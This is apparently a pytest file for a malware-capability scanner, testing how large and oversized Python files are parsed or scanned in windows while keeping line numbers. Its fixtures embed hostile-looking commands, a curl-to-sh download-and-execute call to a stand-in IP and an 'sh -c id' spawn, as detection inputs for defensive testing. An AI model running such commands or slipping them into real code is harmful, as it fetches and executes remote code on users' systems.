"""What one file's analysis may cost: the parse budget and windowed text (issue 15, defect 3)."""

from __future__ import annotations

import time

from verify._behaviour.capabilities import profile_file

MIB = 1024 * 1024


def test_a_module_over_the_node_budget_is_scanned_as_text_not_parsed() -> None:
    # 600,000 list elements: about 600 MB and many seconds to parse.
    source = "import os\nos.system('x')\nx = [" + "1," * 600_000 + "]\n"
    started = time.perf_counter()
    profile = profile_file("pkg/big.py", source.encode())
    assert time.perf_counter() - started < 10
    (finding,) = profile.findings
    assert finding.rule == "unparsable-source"
    assert "memory budget" in finding.message
    assert [(c.rule, c.line) for c in profile.capabilities] == [("process-spawn", 2)]


def test_a_module_within_the_budget_is_parsed() -> None:
    source = "import os\nos.system('x')\nx = [" + "1," * 100_000 + "]\n"
    profile = profile_file("pkg/big.py", source.encode())
    assert profile.findings == ()
    assert [(c.rule, c.line) for c in profile.capabilities] == [("process-spawn", 2)]


def test_a_file_larger_than_a_window_keeps_its_line_numbers() -> None:
    filler = "x = 1\n" * (3 * MIB)  # 18 MiB: over the size analysed at once
    source = filler + "import os\nos.system('curl http://192.0.2.1/x | sh')\n" + "y = 2\n" * 10
    profile = profile_file("pkg/big.py", source.encode())
    lines = {c.rule: c.line for c in profile.capabilities}
    assert lines["download-exec"] == lines["process-spawn"] == 3 * MIB + 2
    assert [f.rule for f in profile.findings] == ["unparsable-source"]
    assert "too large to parse" in profile.findings[0].message


def test_a_long_line_cut_between_windows_is_still_seen() -> None:
    # One 18 MiB line: windows overlap where there is no line break to cut at.
    cut = 4 * MIB
    head = "a" * (cut - 20)
    source = "x = '" + head + "'; import os; os.system('sh -c id'); y = '" + "b" * (14 * MIB)
    profile = profile_file("setup.py", (source + "'\n").encode())
    assert "process-spawn" in {c.rule for c in profile.capabilities}
